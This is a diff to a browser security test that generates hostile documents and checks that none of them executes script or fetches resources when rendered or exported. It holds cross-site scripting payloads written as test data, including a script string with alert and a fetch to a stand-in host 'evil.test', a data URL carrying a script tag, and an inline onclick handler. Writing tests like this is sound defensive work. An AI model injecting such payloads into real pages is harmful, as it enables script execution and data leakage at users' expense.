@@ -1,4 +1,4 @@
-// Two hundred hostile documents, the same at every run: in the page, and in every form that is taken away and opened again, nothing
+// Up to two hundred hostile documents, the same at every run: in the page, and in every form that is taken away and opened again, nothing
 // of them runs, becomes an element, or asks for anything.
 import ICAL from "ical.js";
 import MarkdownIt from "markdown-it";
@@ -8,9 +8,10 @@ import { analyse } from "../../server/src/analyse.ts";
 import { timelineView } from "../../server/src/language/timeline-view.ts";
 import { EXPORT_TEXT_LIMIT, FORMATS, figureOf } from "../../server/src/timeline-export/index.ts";
 import { launchChromium } from "../hosts/chromium.mjs";
+import { upTo } from "../runs.ts";
 import { openPage } from "./page.ts";
 
-const count = 200;
+const count = upTo(200);
 const run = "top.ran=self.ran=1;alert(1);fetch('https://evil.test/ran')";
 const encoded = "data:text/html,<script>parent.ran=1</script>";
 /** What would run or fetch, by kind. */
@@ -155,6 +156,10 @@ describe(`${count} hostile documents`, () => {
   });
   afterAll(() => browser.close());
 
+  it("have every attack among them", () => {
+    expect(attacks.filter((attack) => reports.every(({ text }) => !text.includes(attack)))).toEqual([]);
+  });
+
   it("would be seen, if they were let through", async () => {
     const page = await browser.newPage();
     await page.setContent("<p onclick=x>x<img src=x>");
@@ -196,7 +201,7 @@ describe(`${count} hostile documents`, () => {
     }
     expect(drawn).toBeGreaterThan(count * 0.9);
     const wanted = (await panel.told()).flatMap((one) => (one.type === "openLink" ? [one.target] : []));
-    expect(wanted.length).toBeGreaterThan(50);
+    expect(wanted.length).toBeGreaterThan(count / 4);
     expect(wanted.filter((target) => !target.startsWith("https://evil.test/"))).toEqual([]);
     expect(seen).toEqual([]);
     expect(panel.faults).toEqual([]);
